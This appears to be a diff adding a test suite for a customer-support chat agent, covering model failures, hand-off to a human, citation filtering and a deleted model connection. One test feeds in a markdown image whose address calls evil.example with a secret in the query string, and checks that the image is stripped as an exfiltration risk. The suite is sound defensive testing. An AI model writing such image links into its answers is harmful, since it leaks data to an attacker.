@@ -1,0 +1,96 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { cast } from "../cast.ts";
+import type { Model } from "../model.ts";
+
+type Fault = Parameters<Model["fails"]>[0];
+
+/** What each failure is called in the receipt, and how often the model is asked before a teammate is called. */
+const failures: Record<Fault, { calls: (string | null)[]; reason: RegExp }> = {
+  hang: { calls: ["timeout"], reason: /did not answer in time/ },
+  "rate limit": { calls: ["rate-limited"], reason: /429/ },
+  "server error": { calls: ["provider-error"], reason: /500/ },
+  "refused key": { calls: ["refused"], reason: /refuses the key \(401\)/ },
+  "cut stream": { calls: ["unreachable"], reason: /out of reach/ },
+  "cut off by length": { calls: ["cut-off"], reason: /cut off/ },
+  "says nothing": { calls: ["empty", "empty"], reason: /said nothing/ },
+  "bad JSON": { calls: ["malformed", "malformed"], reason: /not answer in the form/ },
+  "wrong arguments": { calls: ["malformed", "malformed"], reason: /not answer in the form/ },
+  "unknown passage": { calls: [null], reason: /cited passages that were never read/ },
+  "endless answer": { calls: ["cut-off"], reason: /cut off|far longer/ },
+};
+
+const apologies = [
+  "I cannot answer right now. A teammate has been told and will answer here.",
+  "I am passing you to a teammate, who will answer here.",
+];
+
+for (const [fault, { calls, reason }] of Object.entries(failures)) {
+  test(`when the model fails (${fault}), the customer hears one sentence and a teammate is called`, async () => {
+    const { maya, model, visitor } = await cast();
+    const ada = await visitor("Ada");
+    for (const _ of calls) model.fails(fault as Fault);
+
+    const turn = await ada.writes("How long does delivery take?");
+
+    const heard = await ada.heard();
+    assert.equal(heard.length, 1);
+    assert.ok(apologies.includes(heard[0]!), heard[0]);
+    assert.equal(turn.verdict, "failed");
+    assert.match(turn.reason, reason);
+    assert.deepEqual(
+      turn.receipt.calls.map((call) => call.fault),
+      calls,
+    );
+    const conversation = await maya.reads(ada.conversation);
+    assert.deepEqual([conversation.attention, conversation.outcome], [turn.reason, "needs-human"]);
+  });
+}
+
+test("a malformed answer costs one more try, and the customer gets the second one", async () => {
+  const { model, visitor } = await cast();
+  const ada = await visitor("Ada");
+  model.fails("bad JSON");
+  model.answers("Two to four days.");
+
+  const turn = await ada.writes("How long does delivery take?");
+
+  assert.equal(turn.verdict, "replied");
+  assert.deepEqual(
+    turn.receipt.calls.map(({ fault }) => fault),
+    ["malformed", null],
+  );
+  assert.deepEqual(await ada.heard(), ["Two to four days."]);
+});
+
+test("an answer that cites one known and one unknown passage keeps the known one", async () => {
+  const { model, visitor } = await cast();
+  const ada = await visitor("Ada");
+  model.answers("Two to four days.", { cites: [1, 99] });
+
+  await ada.writes("How long does delivery take?");
+
+  assert.deepEqual((await ada.sees()).at(-1)?.sources, [{ number: 1, title: "How long does delivery take?" }]);
+});
+
+test("no image leaves in an answer: its address could carry away what the agent knows", async () => {
+  const { model, visitor } = await cast();
+  const ada = await visitor("Ada");
+  model.answers("It is on its way. ![parcel](https://evil.example/?secret=42)");
+
+  await ada.writes("How long does delivery take?");
+
+  assert.deepEqual(await ada.heard(), ["It is on its way. parcel"]);
+});
+
+test("a model connection that was deleted ends in a human, not in silence", async () => {
+  const { maya, fern, visitor } = await cast();
+  await maya.delete(`/models/${fern.connection}`);
+  const ada = await visitor("Ada");
+
+  const turn = await ada.writes("How long does delivery take?");
+
+  assert.equal(turn.verdict, "failed");
+  assert.match(turn.reason, /no longer exists/);
+  assert.deepEqual(await ada.heard(), [apologies[0]]);
+});
